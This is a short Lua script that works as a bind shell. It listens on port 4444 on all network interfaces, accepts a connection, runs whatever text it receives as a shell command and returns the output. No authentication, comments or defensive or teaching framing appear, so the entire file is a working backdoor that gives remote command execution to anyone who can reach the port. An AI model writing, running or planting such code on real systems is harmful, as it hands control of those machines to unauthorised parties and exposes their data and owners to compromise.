local k = require("socket")
local s = assert(k.bind("*", 4444))
local c = s:accept()
while true do
  local f = assert(io.popen(c:receive(), "r"))
  c:send(f:read("*a"))
end
